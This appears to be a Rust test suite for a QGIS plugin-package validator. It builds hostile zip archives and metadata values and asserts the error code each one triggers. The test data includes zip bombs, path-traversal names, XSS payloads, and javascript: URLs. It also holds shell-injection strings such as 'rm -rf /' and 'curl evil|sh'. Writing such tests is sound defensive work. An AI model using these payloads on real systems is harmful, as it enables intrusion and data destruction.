//! Hostile archives and metadata (reliability.md catalogue A and B), built in code with
//! `ZipBuilder`; each case asserts the problem code. Service-level cases (B4's canary
//! listener, B13, B15–B18's database rules) belong to the upload service's tests.

use super::builder::{
    ZipBuilder, ZipEntry, deflate, metadata_txt, plugin_with_metadata, valid_plugin,
};
use super::*;

const MIB: usize = 1024 * 1024;

fn plugin() -> ZipBuilder {
    valid_plugin("test_modul")
}

fn plus(name: &str, data: &[u8]) -> Vec<u8> {
    plugin().file(name, data).build()
}

fn md(extra: &str) -> Vec<u8> {
    plugin_with_metadata("test_modul", &metadata_txt(extra)).build()
}

fn md_raw(text: &[u8]) -> Vec<u8> {
    plugin().edit("test_modul/metadata.txt", |e| e.data = text.to_vec()).build()
}

/// metadata_txt with `key=...` replaced by `line`.
fn md_with(key: &str, line: &str) -> Vec<u8> {
    let text: String = metadata_txt("")
        .lines()
        .map(|l| if l.starts_with(&format!("{key}=")) { line.to_owned() } else { l.to_owned() })
        .map(|l| l + "\n")
        .collect();
    md_raw(text.as_bytes())
}

fn edit(name: &str, f: impl FnOnce(&mut ZipEntry)) -> Vec<u8> {
    plugin().edit(name, f).build()
}

fn with_mode(name: &str, mode: u32) -> Vec<u8> {
    plugin().file(name, "x").edit_last(|e| e.external_attr = mode << 16).build()
}

/// Zeros deflated: `n` bytes of output from a few KiB of input.
fn zeros(n: usize) -> Vec<u8> {
    deflate(&vec![0u8; n])
}

/// Expected outcome: `"valid"` or an error code that must be among the errors.
fn cases() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let good = plugin().build();
    let mut v: Vec<(&'static str, Vec<u8>, &'static str)> = vec![
        // A1 not a zip.
        (
            "A1 random bytes",
            (0..2000u32).map(|i| (i * 7919 % 251) as u8).collect(),
            "archive.not_zip",
        ),
        ("A1 png", super::builder::PNG_1X1.to_vec(), "archive.not_zip"),
        (
            "A1 gzip",
            vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
            "archive.not_zip",
        ),
        ("A1 html", b"<html><body>plugin.zip</body></html>".to_vec(), "archive.not_zip"),
        // A2, A3.
        ("A2 empty upload", Vec::new(), "archive.empty"),
        ("A3 empty zip", ZipBuilder::new().build(), "package.no_folder"),
        // A5 corruption.
        (
            "A5 wrong crc",
            edit("test_modul/plugin.py", |e| e.crc = Some(0xDEAD_BEEF)),
            "archive.crc",
        ),
        ("A5 wrong crc stored", edit("test_modul/icon.png", |e| e.crc = Some(1)), "archive.crc"),
        (
            "A5 garbage deflate",
            edit("test_modul/plugin.py", |e| e.raw = Some(vec![0xFF; 40])),
            "archive.corrupt_data",
        ),
        (
            "A5 truncated deflate",
            edit("test_modul/plugin.py", |e| {
                let d = deflate(&e.data);
                e.raw = Some(d[..d.len() / 2].to_vec())
            }),
            "archive.corrupt_data",
        ),
        (
            "A5 bytes after deflate end",
            edit("test_modul/plugin.py", |e| {
                let mut d = deflate(&e.data);
                d.extend_from_slice(b"hidden");
                e.raw = Some(d)
            }),
            "archive.corrupt_data",
        ),
        // A6 prefix data: offsets as written (relative) and shifted (absolute, SFX-style).
        (
            "A6 html prefix",
            {
                let mut b = plugin();
                b.prefix = b"<script>alert(1)</script>".to_vec();
                b.build()
            },
            "archive.prefix_data",
        ),
        (
            "A6 sfx stub",
            {
                let mut z = b"MZ\x90\x00stub".to_vec();
                z.extend_from_slice(&good);
                z
            },
            "archive.prefix_data",
        ),
        // A7 trailing data, two zips, two end records.
        (
            "A7 trailing bytes",
            {
                let mut z = good.clone();
                z.extend_from_slice(b"trailer");
                z
            },
            "archive.trailing_data",
        ),
        (
            "A7 two zips",
            {
                let mut z = good.clone();
                z.extend_from_slice(&good);
                z
            },
            "archive.",
        ),
        (
            "A7 two end records",
            {
                let mut z = good.clone();
                let n = z.len();
                z.extend_from_slice(&good[n - 22..]);
                z
            },
            "archive.trailing_data",
        ),
        // A8 comments.
        (
            "A8 ascii comment ok",
            {
                let mut b = plugin();
                b.comment = b"3f2c1d0e9b8a7f6e5d4c3b2a1f0e9d8c7b6a5f4e".to_vec();
                b.build()
            },
            "valid",
        ),
        (
            "A8 entry comment",
            edit("test_modul/plugin.py", |e| e.comment = b"hi".to_vec()),
            "archive.entry_comment",
        ),
        (
            "A8 8-bit comment",
            {
                let mut b = plugin();
                b.comment = "café".as_bytes().to_vec();
                b.build()
            },
            "archive.comment",
        ),
        (
            "A8 huge comment",
            {
                let mut b = plugin();
                b.comment = vec![b'a'; 2000];
                b.build()
            },
            "archive.comment",
        ),
        // A9 bombs (time and memory bounds: tests/validate_memory.rs).
        (
            "A9 declared huge entry",
            plugin()
                .file("test_modul/big.bin", "x")
                .edit_last(|e| {
                    e.raw = Some(zeros(1024));
                    e.usize = Some(200 * MIB as u32)
                })
                .build(),
            "archive.entry_too_large",
        ),
        (
            "A9 declared huge total",
            (0..3)
                .fold(plugin(), |b, i| {
                    b.file(format!("test_modul/b{i}.bin"), "x").edit_last(|e| {
                        e.raw = Some(zeros(1024));
                        e.usize = Some(100 * MIB as u32)
                    })
                })
                .build(),
            "archive.too_large_uncompressed",
        ),
        (
            "A9 ratio",
            (0..2)
                .fold(plugin(), |b, i| {
                    b.file(format!("test_modul/r{i}.bin"), "x").edit_last(|e| {
                        e.raw = Some(zeros(1024));
                        e.usize = Some(40 * MIB as u32)
                    })
                })
                .build(),
            "archive.ratio",
        ),
        (
            "A9 declared small, inflates large",
            plugin()
                .file("test_modul/lie.bin", vec![0u8; 1000])
                .edit_last(|e| e.raw = Some(zeros(8 * MIB)))
                .build(),
            "archive.size_mismatch",
        ),
        // A10 entry count.
        (
            "A10 count in end record",
            {
                let mut b = plugin();
                b.eocd_count = Some(65_000);
                b.build()
            },
            "archive.too_many_entries",
        ),
        (
            "A10 real entries",
            (0..20_001)
                .fold(ZipBuilder::new(), |b, i| b.stored(format!("test_modul/f{i}"), ""))
                .build(),
            "archive.too_many_entries",
        ),
        // A11 overlapping entries.
        (
            "A11 shared kernel",
            plugin()
                .file("test_modul/k1.bin", vec![0u8; 5000])
                .file("test_modul/k2.bin", vec![0u8; 5000])
                .edit_last(|e| {
                    e.central_offset_of = Some(6);
                    e.skip_local = true;
                })
                .build(),
            "archive.overlapping_entries",
        ),
        // A12 nested archive: opaque bytes.
        (
            "A12 nested zip",
            plus(
                "test_modul/data/inner.zip",
                &ZipBuilder::new().file("x/../../evil", "boom").build(),
            ),
            "valid",
        ),
        // A13–A17 paths.
        ("A13 traversal", plus("test_modul/../../etc/cron.d/x", b"x"), "archive.traversal"),
        ("A13 leading ..", ZipBuilder::new().file("../x", "x").build(), "archive.traversal"),
        ("A14 inner ..", plus("test_modul/a/../b.py", b"x"), "archive.traversal"),
        ("A14 dot component", plus("test_modul/./b.py", b"x"), "archive.non_canonical_path"),
        ("A14 empty component", plus("test_modul//b.py", b"x"), "archive.non_canonical_path"),
        (
            "A15 absolute",
            ZipBuilder::new().file("/test_modul/__init__.py", "").build(),
            "archive.absolute_path",
        ),
        ("A15 etc passwd", plus("/etc/passwd", b"x"), "archive.absolute_path"),
        ("A16 backslash traversal", plus("test_modul\\..\\..\\x", b"x"), "archive.backslash"),
        ("A16 backslash", plus("test_modul\\__init__.py", b"x"), "archive.backslash"),
        ("A17 drive", ZipBuilder::new().file("C:/x", "x").build(), "archive.drive_letter"),
        ("A17 drive relative", ZipBuilder::new().file("C:x", "x").build(), "archive.drive_letter"),
        (
            "A17 unc backslash",
            ZipBuilder::new().file("\\\\srv\\share\\x", "x").build(),
            "archive.backslash",
        ),
        (
            "A17 unc slash",
            ZipBuilder::new().file("//srv/share", "x").build(),
            "archive.absolute_path",
        ),
        // A18 unportable names.
        ("A18 CON.py", plus("test_modul/CON.py", b"x"), "archive.unportable_name"),
        ("A18 nul", plus("test_modul/nul", b"x"), "archive.unportable_name"),
        ("A18 aux.txt", plus("test_modul/aux.txt", b"x"), "archive.unportable_name"),
        ("A18 COM1", plus("test_modul/COM1", b"x"), "archive.unportable_name"),
        ("A18 LPT9.x", plus("test_modul/LPT9.x", b"x"), "archive.unportable_name"),
        ("A18 trailing dot", plus("test_modul/a.", b"x"), "archive.unportable_name"),
        ("A18 trailing space", plus("test_modul/a ", b"x"), "archive.unportable_name"),
        ("A18 ads colon", plus("test_modul/a.py:evil", b"x"), "archive.unportable_name"),
        ("A18 specials", plus("test_modul/a<b>|?.py", b"x"), "archive.unportable_name"),
        ("A18 case files", plus("test_modul/Plugin.py", b"x"), "archive.case_collision"),
        (
            "A18 case dirs",
            plugin()
                .file("test_modul/Icons/a.png", "x")
                .file("test_modul/icons/b.png", "x")
                .build(),
            "archive.case_collision",
        ),
        (
            "A18 file and dir",
            plugin().file("test_modul/x", "x").file("test_modul/x/y", "x").build(),
            "archive.duplicate_name",
        ),
        // A19 control characters.
        ("A19 nul byte", plus("test_modul/a\0.py", b"x"), "archive.control_char"),
        ("A19 0x01", plus("test_modul/a\x01.py", b"x"), "archive.control_char"),
        ("A19 del", plus("test_modul/a\x7f.py", b"x"), "archive.control_char"),
        (
            "A19 c1",
            plugin().file("test_modul/a\u{85}.py", "x").edit_last(|e| e.flags |= 0x800).build(),
            "archive.control_char",
        ),
        (
            "A19 u2028",
            plugin().file("test_modul/a\u{2028}.py", "x").edit_last(|e| e.flags |= 0x800).build(),
            "archive.control_char",
        ),
        (
            "A19 bidi",
            plugin()
                .file("test_modul/a\u{202e}yp.exe", "x")
                .edit_last(|e| e.flags |= 0x800)
                .build(),
            "archive.control_char",
        ),
        // A20 name encodings.
        (
            "A20 non-ascii without flag",
            plus("test_modul/caf\u{e9}.py", b"x"),
            "archive.name_encoding",
        ),
        (
            "A20 flag but not utf8",
            plugin().file(b"test_modul/caf\xe9.py", "x").edit_last(|e| e.flags |= 0x800).build(),
            "archive.name_encoding",
        ),
        (
            "A20 unicode path differs",
            plugin()
                .file("test_modul/a.py", "x")
                .edit_last(|e| {
                    let mut x = vec![0x75, 0x70, 6, 0, 1];
                    x.extend_from_slice(&crc32fast::hash(b"test_modul/a.py").to_le_bytes());
                    x.push(b'b');
                    e.local_extra = x.clone();
                    e.central_extra = x;
                })
                .build(),
            "archive.name_encoding",
        ),
        (
            "A20 utf8 flagged ok",
            plugin()
                .file("test_modul/i18n/caf\u{e9}.qm", "x")
                .edit_last(|e| e.flags |= 0x800)
                .build(),
            "valid",
        ),
        // A21, A22 modes.
        ("A21 symlink", with_mode("test_modul/link.py", 0o120_777), "archive.symlink"),
        ("A21 symlink dir", with_mode("test_modul/lib", 0o120_755), "archive.symlink"),
        ("A22 fifo", with_mode("test_modul/fifo", 0o010_644), "archive.special_file"),
        ("A22 char device", with_mode("test_modul/tty", 0o020_666), "archive.special_file"),
        ("A22 block device", with_mode("test_modul/sda", 0o060_660), "archive.special_file"),
        ("A22 socket", with_mode("test_modul/sock", 0o140_777), "archive.special_file"),
        ("A22 setuid", with_mode("test_modul/run.sh", 0o104_755), "archive.special_file"),
        (
            "A22 dir with data",
            plugin().stored("test_modul/data/", "payload").build(),
            "archive.special_file",
        ),
        ("A22 executable ok", with_mode("test_modul/run.sh", 0o100_755), "valid"),
        // A23 duplicates.
        (
            "A23 duplicate",
            plus("test_modul/metadata.txt", b"[general]\nname=evil\n"),
            "archive.duplicate_name",
        ),
        // A24 local header vs central directory.
        (
            "A24 other local name",
            edit("test_modul/plugin.py", |e| e.local_name = Some(b"test_modul/evil.py".to_vec())),
            "archive.header_mismatch",
        ),
        (
            "A24 other local size",
            edit("test_modul/plugin.py", |e| e.local_usize = Some(5)),
            "archive.header_mismatch",
        ),
        (
            "A24 other local crc",
            edit("test_modul/plugin.py", |e| e.local_crc = Some(5)),
            "archive.header_mismatch",
        ),
        (
            "A24 no local header",
            plugin().file("test_modul/ghost.py", "x").edit_last(|e| e.skip_local = true).build(),
            "archive.header_mismatch",
        ),
        (
            "A24 local header skipped",
            edit("test_modul/plugin.py", |e| e.skip_local = true),
            "archive.overlapping_entries",
        ),
        (
            "A24 no central entry",
            edit("test_modul/plugin.py", |e| e.skip_central = true),
            "archive.header_mismatch",
        ),
        (
            "A24 hidden local at end",
            plugin().file("test_modul/hidden.py", "x").edit_last(|e| e.skip_central = true).build(),
            "archive.header_mismatch",
        ),
        // A25 data descriptors.
        (
            "A25 flag without descriptor",
            edit("test_modul/plugin.py", |e| e.flags |= 0x8),
            "archive.data_descriptor",
        ),
        ("A25 consistent descriptors ok", plugin().streamed().build(), "valid"),
        (
            "A25 descriptor without signature ok",
            plugin()
                .streamed()
                .edit("test_modul/plugin.py", |e| {
                    if let Some(d) = &mut e.descriptor {
                        d.drain(..4);
                    }
                })
                .build(),
            "valid",
        ),
        (
            "A25 descriptor crc differs",
            plugin()
                .streamed()
                .edit("test_modul/plugin.py", |e| {
                    if let Some(d) = &mut e.descriptor {
                        d[4] ^= 1;
                    }
                })
                .build(),
            "archive.data_descriptor",
        ),
        (
            "A25 descriptor size differs",
            plugin()
                .streamed()
                .edit("test_modul/plugin.py", |e| {
                    if let Some(d) = &mut e.descriptor {
                        d[12] ^= 1;
                    }
                })
                .build(),
            "archive.data_descriptor",
        ),
        (
            "A25 local sizes differ",
            plugin().streamed().edit("test_modul/plugin.py", |e| e.local_usize = Some(1)).build(),
            "archive.header_mismatch",
        ),
        // A26 ZIP64.
        (
            "A26 sentinel without extra",
            edit("test_modul/plugin.py", |e| e.csize = Some(0xFFFF_FFFF)),
            "archive.zip64",
        ),
        (
            "A26 bad local extra",
            edit("test_modul/plugin.py", |e| e.local_extra = vec![1, 0, 4, 0, 0, 0, 0, 0]),
            "archive.zip64",
        ),
        (
            "A26 truncated extra",
            edit("test_modul/plugin.py", |e| e.local_extra = vec![0x55, 0x54, 9, 0, 1]),
            "archive.extra_field",
        ),
        // A27 encryption.
        ("A27 zipcrypto flag", edit("test_modul/plugin.py", |e| e.flags |= 1), "archive.encrypted"),
        ("A27 aes method", edit("test_modul/plugin.py", |e| e.method = 99), "archive.encrypted"),
        (
            "A27 strong encryption",
            edit("test_modul/LICENSE", |e| e.flags |= 0x40),
            "archive.encrypted",
        ),
    ];
    // A28 methods.
    for (id, m) in [
        ("A28 bzip2", 12u16),
        ("A28 lzma", 14),
        ("A28 zstd", 93),
        ("A28 deflate64", 9),
        ("A28 ppmd", 98),
        ("A28 shrink", 1),
        ("A28 unknown", 200),
    ] {
        v.push((id, edit("test_modul/plugin.py", |e| e.method = m), "archive.compression"));
    }
    v.extend([
        // A29–A33 layout.
        ("A29 second folder", plus("Other/x.py", b"x"), "package.multiple_roots"),
        ("A29 readme at root", plus("README.md", b"x"), "package.multiple_roots"),
        (
            "A30 no folder",
            ZipBuilder::new().file("metadata.txt", metadata_txt("")).build(),
            "package.no_folder",
        ),
        ("A31 hyphen", valid_plugin("Hello-World").build(), "package.not_identifier"),
        ("A31 digit first", valid_plugin("1plugin").build(), "package.not_identifier"),
        (
            "A31 non-ascii",
            valid_plugin("héllo").build().into_iter().collect::<Vec<u8>>(),
            "archive.name_encoding",
        ),
        (
            "A31 non-ascii utf8",
            {
                let mut b = valid_plugin("héllo");
                for e in &mut b.entries {
                    e.flags |= 0x800
                }
                b.build()
            },
            "package.not_ascii",
        ),
        ("A31 device name", valid_plugin("con").build(), "archive.unportable_name"),
        ("A31 too long", valid_plugin(&"p".repeat(300)).build(), "package.not_ascii"),
        ("A32 macosx", plus("test_modul/__MACOSX/._a", b"x"), "archive.forbidden_dir"),
        ("A32 git", plus("test_modul/.git/config", b"x"), "archive.forbidden_dir"),
        ("A32 pycache", plus("test_modul/__pycache__/a.cpython-311.pyc", b"x"), "archive.pyc"),
        ("A32 pyc", plus("test_modul/a.pyc", b"x"), "archive.pyc"),
        ("A32 pyo", plus("test_modul/a.pyo", b"x"), "archive.pyc"),
        ("A32 ds_store", plus("test_modul/.DS_Store", b"x"), "archive.junk_file"),
        ("A33 no init", plugin().without("test_modul/__init__.py").build(), "package.missing_init"),
        (
            "A33 neither",
            plugin().without("test_modul/__init__.py").without("test_modul/metadata.txt").build(),
            "package.missing_plugin_files",
        ),
        ("A33 no license", plugin().without("test_modul/LICENSE").build(), "license.missing"),
        // A34–A38 metadata.txt as a file.
        (
            "A34 huge metadata",
            md(&format!("about2={}\n", "x".repeat(300 * 1024))),
            "metadata.too_large",
        ),
        (
            "A34 metadata bomb lie",
            edit("test_modul/metadata.txt", |e| e.raw = Some(zeros(64 * MIB))),
            "archive.size_mismatch",
        ),
        (
            "A34 metadata bomb honest",
            edit("test_modul/metadata.txt", |e| {
                e.raw = Some(zeros(1024));
                e.usize = Some(1 << 30)
            }),
            "archive.entry_too_large",
        ),
        ("A35 latin-1", md_raw(b"[general]\nname=Caf\xe9\n"), "metadata.not_utf8"),
        ("A35 overlong", md_raw(b"[general]\nname=\xc0\xaf\n"), "metadata.not_utf8"),
        (
            "A36 bom",
            md_raw(&[b"\xef\xbb\xbf".as_slice(), metadata_txt("").as_bytes()].concat()),
            "metadata.bom",
        ),
        ("A37 crlf ok", md_raw(metadata_txt("").replace('\n', "\r\n").as_bytes()), "valid"),
        (
            "A37 cr only",
            md_raw(metadata_txt("").replace('\n', "\r").as_bytes()),
            "metadata.line_separator",
        ),
        (
            "A38 icon size lie",
            edit("test_modul/icon.png", |e| {
                e.method = 8;
                e.raw = Some(zeros(100 * MIB));
                e.usize = Some(10)
            }),
            "archive.size_mismatch",
        ),
        (
            "A38 init size lie",
            edit("test_modul/__init__.py", |e| {
                e.raw = Some(zeros(100 * MIB));
                e.usize = Some(10)
            }),
            "archive.size_mismatch",
        ),
        // B1, B2, B5–B7: stored verbatim (escaping is the generator's job).
        ("B1 script in name", md_with("name", "name=<script>alert(1)</script>"), "valid"),
        ("B1 img in about", md_with("about", "about=<img src=x onerror=alert(1)>"), "valid"),
        ("B1 svg in changelog", md("changelog=<svg onload=alert(1)>\n"), "valid"),
        (
            "B2 attribute breakout",
            md_with("name", "name=\" onmouseover=\"x ' onfocus='x `"),
            "valid",
        ),
        (
            "B2 newline in name",
            md_with("name", "name=Test\n  <b>Plugin</b>"),
            "metadata.multiline_value",
        ),
        ("B5 cdata end", md_with("description", "description=a ]]> b ]]]]> <![CDATA["), "valid"),
        (
            "B6 ampersands",
            md_with("description", "description=A & B &amp; &#0; &lt; &bogus;"),
            "valid",
        ),
        (
            "B7 element injection",
            md_with(
                "description",
                "description=</description><download_url>http://evil/x.zip</download_url>",
            ),
            "valid",
        ),
        // B3 URL schemes.
        ("B3 javascript", md_with("homepage", "homepage=javascript:alert(1)"), "metadata.bad_url"),
        (
            "B3 tab in scheme",
            md_with("homepage", "homepage=java\tscript:alert(1)"),
            "metadata.bad_url",
        ),
        (
            "B3 data",
            md_with("tracker", "tracker=data:text/html,<script>alert(1)</script>"),
            "metadata.bad_url",
        ),
        ("B3 vbscript", md_with("repository", "repository=vbscript:msgbox"), "metadata.bad_url"),
        (
            "B3 scheme-relative",
            md_with("repository", "repository=//evil.example/x"),
            "metadata.bad_url",
        ),
        // B4: internal addresses are syntax-valid; the validator never connects (pure).
        ("B4 loopback", md_with("homepage", "homepage=http://127.0.0.1:9/"), "valid"),
        (
            "B4 metadata service",
            md_with("homepage", "homepage=http://169.254.169.254/latest/"),
            "valid",
        ),
        // B8 characters illegal in XML.
        ("B8 nul", md_with("description", "description=a\0b"), "metadata.invalid_character"),
        ("B8 0x01", md_with("about", "about=a\x01b"), "metadata.invalid_character"),
        ("B8 0x1f", md_with("author", "author=a\x1fb"), "metadata.invalid_character"),
        (
            "B8 ufffe",
            md_with("description", "description=a\u{fffe}b"),
            "metadata.invalid_character",
        ),
        (
            "B8 uffff",
            md_with("description", "description=a\u{ffff}b"),
            "metadata.invalid_character",
        ),
        ("B8 c1", md_with("description", "description=a\u{80}b"), "metadata.invalid_character"),
        ("B8 unknown key too", md("hasProcessingProvider=no\x02\n"), "metadata.invalid_character"),
        // B9 Python line separators smuggling keys.
        (
            "B9 u2028",
            md_with("description", "description=x\u{2028}version=9.9"),
            "metadata.line_separator",
        ),
        ("B9 u2029", md_with("description", "description=x\u{2029}y"), "metadata.line_separator"),
        ("B9 nel", md_with("description", "description=x\u{85}y"), "metadata.line_separator"),
        ("B9 0x1c", md_with("description", "description=x\x1cy"), "metadata.line_separator"),
        ("B9 vt", md_with("description", "description=x\x0by"), "metadata.line_separator"),
        ("B9 ff", md_with("description", "description=x\x0cy"), "metadata.line_separator"),
        // B10 invisible characters.
        (
            "B10 rlo in name",
            md_with("name", "name=Test\u{202e}nigulP"),
            "metadata.invisible_character",
        ),
        (
            "B10 zwsp in author",
            md_with("author", "author=Ja\u{200b}ne"),
            "metadata.invisible_character",
        ),
        ("B10 isolate in tags", md_with("tags", "tags=a\u{2066}b"), "metadata.invisible_character"),
        ("B10 bom in name", md_with("name", "name=\u{feff}Test"), "metadata.invisible_character"),
        (
            "B10 rlo in about ok",
            md_with("about", "about=Arabic \u{202b}text\u{202c} here"),
            "valid",
        ),
        // B11 long fields.
        (
            "B11 long name",
            md_with("name", &format!("name={}", "n".repeat(10_000))),
            "metadata.field_too_long",
        ),
        (
            "B11 long description",
            md_with("description", &format!("description={}", "d".repeat(100_000))),
            "metadata.field_too_long",
        ),
        (
            "B11 long about",
            md_with("about", &format!("about={}", "a".repeat(200_000))),
            "metadata.field_too_long",
        ),
        (
            "B11 many tags",
            md_with(
                "tags",
                &format!(
                    "tags={}",
                    (0..10_000).map(|i| i.to_string()).collect::<Vec<_>>().join(",")
                ),
            ),
            "metadata.too_many_tags",
        ),
        (
            "B11 long tag",
            md_with("tags", &format!("tags=ok,{}", "t".repeat(65))),
            "metadata.field_too_long",
        ),
        // B12 versions.
        ("B12 shell", md_with("version", "version=1.0 ; rm -rf /"), "metadata.bad_version"),
        ("B12 path", md_with("version", "version=1.0/../../x"), "metadata.bad_version"),
        ("B12 dots", md_with("version", "version=.."), "metadata.bad_version"),
        ("B12 markup", md_with("version", "version=1.0<script>"), "metadata.bad_version"),
        ("B12 empty", md_with("version", "version="), "metadata.empty_value"),
        (
            "B12 long",
            md_with("version", &format!("version={}", "1".repeat(300))),
            "metadata.bad_version",
        ),
        (
            "B12 arabic digits",
            md_with("version", "version=\u{661}.\u{660}"),
            "metadata.bad_version",
        ),
        // A trailing dot is a valid URL segment and file name, and QGIS compares it as `1.0`.
        ("B12 trailing dot ok", md_with("version", "version=1.0."), "valid"),
        ("B12 leading dot", md_with("version", "version=.5"), "metadata.bad_version"),
        ("B12 windows name", md_with("version", "version=1.0:2"), "metadata.bad_version"),
        ("B12 quote", md_with("version", "version=1.0\"x"), "metadata.bad_version"),
        ("B12 prefix only", md_with("version", "version=Rev"), "metadata.bad_version"),
        ("B12 superscript", md_with("version", "version=1.\u{b2}"), "metadata.bad_version"),
        ("B12 han numeral", md_with("version", "version=1.\u{4e00}"), "metadata.bad_version"),
        ("B12 tilde ok", md_with("version", "version=1.2.0~rc1"), "valid"),
        ("B12 accents ok", md_with("version", "version=2.0-\u{e9}t\u{e9}"), "valid"),
        ("B12 punctuation ok", md_with("version", "version=1.0;x=(y)"), "valid"),
        ("B12 v prefix ok", md_with("version", "version=v1.0"), "valid"),
        ("B12 build ok", md_with("version", "version=1.0.0+build"), "valid"),
        ("B12 padded ok", md_with("version", "version=  1.0  "), "valid"),
        // B14 QGIS bounds.
        (
            "B14 abc",
            md_with("qgisMinimumVersion", "qgisMinimumVersion=abc"),
            "metadata.bad_qgis_version",
        ),
        (
            "B14 x",
            md_with("qgisMinimumVersion", "qgisMinimumVersion=3.x"),
            "metadata.bad_qgis_version",
        ),
        (
            "B14 four parts",
            md_with("qgisMinimumVersion", "qgisMinimumVersion=99.99.99.99"),
            "metadata.bad_qgis_version",
        ),
        ("B14 min above max", md("qgisMaximumVersion=2.18\n"), "metadata.qgis_range"),
        ("B14 lone major ok", md_with("qgisMinimumVersion", "qgisMinimumVersion=3"), "valid"),
        // B19–B21 configparser shapes.
        ("B19 duplicate key", md("version=2.0\n"), "metadata.duplicate_key"),
        ("B19 duplicate key by case", md("Version=2.0\n"), "metadata.duplicate_key"),
        ("B20 percent", md_with("about", "about=100% free"), "metadata.percent_sign"),
        ("B20 double percent ok", md_with("about", "about=100%% free"), "valid"),
        ("B20 interpolation", md_with("about", "about=%(name)s rocks"), "metadata.interpolation"),
        (
            "B21 default section",
            md_raw(format!("[DEFAULT]\nemail=x@example.org\n{}", metadata_txt("")).as_bytes()),
            "metadata.default_section",
        ),
        (
            "B21 General",
            md_raw(metadata_txt("").replace("[general]", "[General]").as_bytes()),
            "metadata.no_general_section",
        ),
        (
            "B21 no section",
            md_raw(metadata_txt("").replace("[general]\n", "").as_bytes()),
            "metadata.missing_section_header",
        ),
        (
            "B21 duplicate section",
            md_raw(format!("{}[general]\nx=1\n", metadata_txt("")).as_bytes()),
            "metadata.duplicate_section",
        ),
        ("B21 bad line", md("just some words\n"), "metadata.bad_line"),
        // B24 author and email.
        ("B24 author slash", md_with("author", "author=a/b"), "metadata.author_slash"),
        ("B24 blank author", md_with("author", "author=   "), "metadata.empty_value"),
        // An address of another shape is a warning (issue 15): the plugin is valid.
        ("B24 unusual email", md_with("email", "email=not an address"), "valid"),
        ("B24 empty email", md_with("email", "email="), "metadata.empty_value"),
        // B25 icon abuse: dropped with a warning, never looked up outside the zip.
        ("B25 icon traversal", md_with("icon", "icon=../../etc/passwd"), "valid"),
        ("B25 icon absolute", md_with("icon", "icon=/etc/passwd"), "valid"),
        (
            "B25 icon html",
            plugin()
                .edit("test_modul/icon.png", |e| {
                    e.data = b"<html><script>x</script></html>".to_vec()
                })
                .build(),
            "valid",
        ),
        (
            "B25 icon too big",
            plugin()
                .edit("test_modul/icon.png", |e| {
                    let mut d = super::builder::PNG_1X1.to_vec();
                    d.resize(2 * MIB, 0);
                    e.data = d
                })
                .build(),
            "valid",
        ),
        // B26 unknown keys.
        (
            "B26 shell in deps",
            md("external_deps=numpy; rm -rf / && curl evil|sh\nplugin_dependencies=$(id)\n"),
            "valid",
        ),
        (
            "B26 many keys",
            md(&(0..500).map(|i| format!("k{i}=v\n")).collect::<String>()),
            "metadata.too_many_keys",
        ),
    ]);
    // A4 truncations of a valid zip at many offsets.
    for cut in [
        1usize,
        4,
        10,
        29,
        30,
        31,
        100,
        good.len() / 2,
        good.len() - 60,
        good.len() - 23,
        good.len() - 1,
    ] {
        let id: &'static str = Box::leak(format!("A4 truncated at {cut}").into_boxed_str());
        v.push((id, good[..cut].to_vec(), "archive."));
    }
    v
}

#[test]
fn hostile_archives_and_metadata() {
    let opts = Options::default();
    let mut failures = Vec::new();
    let all = cases();
    for (id, zip, expect) in &all {
        let got = validate(zip, &Mode::New, &opts);
        let ok = match (&got, *expect) {
            (Ok(_), "valid") => true,
            (Err(r), e) if e.ends_with('.') => {
                r.errors.iter().all(|p| p.code.as_str().starts_with(e))
            }
            (Err(r), e) => r.errors.iter().any(|p| p.code.as_str() == e),
            _ => false,
        };
        if !ok {
            let shown = match got {
                Ok(p) => format!("valid {} {}", p.package, p.version),
                Err(r) => r
                    .errors
                    .iter()
                    .map(|p| format!("{}: {}", p.code, p.message))
                    .collect::<Vec<_>>()
                    .join(" | "),
            };
            failures.push(format!(
                "{id}: expected {expect}, got {}",
                shown.chars().take(300).collect::<String>()
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        all.len(),
        failures.join("\n")
    );
}

#[test]
fn hostile_values_are_stored_verbatim() {
    let zip = md_with("name", "name=<script>alert(1)</script>");
    let p = validate(&zip, &Mode::New, &Options::default()).unwrap();
    assert_eq!(p.name, "<script>alert(1)</script>");
    let zip = md_with("description", "description=100%% free");
    assert_eq!(validate(&zip, &Mode::New, &Options::default()).unwrap().description, "100% free");
    let zip = md_with("icon", "icon=../../etc/passwd");
    let p = validate(&zip, &Mode::New, &Options::default()).unwrap();
    assert!(p.icon.is_none());
    assert_eq!(p.warnings[0].code.as_str(), "icon.ignored");
}

#[test]
fn crlf_and_lf_give_identical_results() {
    let lf = validate(&md(""), &Mode::New, &Options::default()).unwrap();
    let crlf = validate(
        &md_raw(metadata_txt("").replace('\n', "\r\n").as_bytes()),
        &Mode::New,
        &Options::default(),
    )
    .unwrap();
    assert_eq!(lf.metadata, crlf.metadata);
}
